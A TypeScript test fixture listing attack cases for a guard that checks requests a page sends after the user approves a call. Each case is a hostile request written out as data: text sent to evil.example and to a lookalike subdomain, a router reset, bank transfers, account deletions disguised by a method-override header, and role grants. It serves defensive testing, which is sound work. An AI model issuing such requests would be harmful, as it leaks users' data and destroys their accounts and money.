import type { GuardFacts, GuardRequest } from '@/utils/contracts/ports';
import type { Attack } from '../attack';
import { family, said, send, typed } from './scene';

/** What pages send after a call that the user has allowed, and that its card did not show. */

const text = 'See you on Friday';
const after = (
  kinds: NonNullable<GuardFacts['opened']>['kinds'],
  values: readonly string[],
  given: Partial<GuardFacts> = {},
): GuardFacts => said('Tidy up', { opened: { site: 'post.example', kinds, values, sums: values }, ...given });
const freed = (path: string, body: unknown, more: Parameters<typeof send>[2] = {}): GuardRequest =>
  send(path, body, { opened: true, ...more });
const elsewhere = (url: string, body: unknown) => freed('/', body, { url });
const sent = after(['send'], [text], typed([text]));

const origins: Readonly<Record<string, readonly [GuardRequest, GuardFacts]>> = {
  'the text to a stranger': [elsewhere('https://evil.example/in', { text }), sent],
  'the text to a site of the same beginning': [elsewhere('https://post.example.evil.example/in', { text }), sent],
  'nothing to a bank': [elsewhere('https://bank.example/move', {}), after(['delete'], [])],
  'nothing to a router': [elsewhere('http://192.168.0.1/reset', {}), after(['submit'], [])],
  'the text to an origin that gives pages data, from another site': [
    freed('/', { text }, { url: 'https://api.example/in', serves: true, page: 'https://evil.example/' }),
    sent,
  ],
  'nothing to an origin that gives pages data': [
    freed('/', {}, { url: 'https://api.example/in', serves: true }),
    after(['send'], []),
  ],
};

const kinds: Readonly<Record<string, readonly [GuardRequest, GuardFacts]>> = {
  'the account is deleted after a message': [freed('/account', {}, { method: 'DELETE' }), sent],
  'the account is deleted with a message in its reason': [freed('/account', { why: text }, { method: 'DELETE' }), sent],
  'the account is closed in other words': [freed('/konto/aufloesen', { sure: true }), sent],
  'the account is closed by a form': [freed('/me', 'state=gone'), sent],
  'the account is closed by a header': [freed('/me', '{}', { headers: [['x-http-method-override', 'DELETE']] }), sent],
  'money is moved after a message': [freed('/transfers', { text, iban: 'LT601010' }), sent],
  'rights are given with a saved text': [freed('/roles/grant', { text }), after(['submit'], [text], typed([text]))],
  'a payment with what was deleted': [freed('/pay', { id: 7 }), after(['delete'], [])],
  'an empty call': [freed('/x', ''), sent],
};

export const afterACard: readonly Attack[] = [
  ...family('to another origin after a card', origins),
  ...family('of another kind after a card', kinds),
];
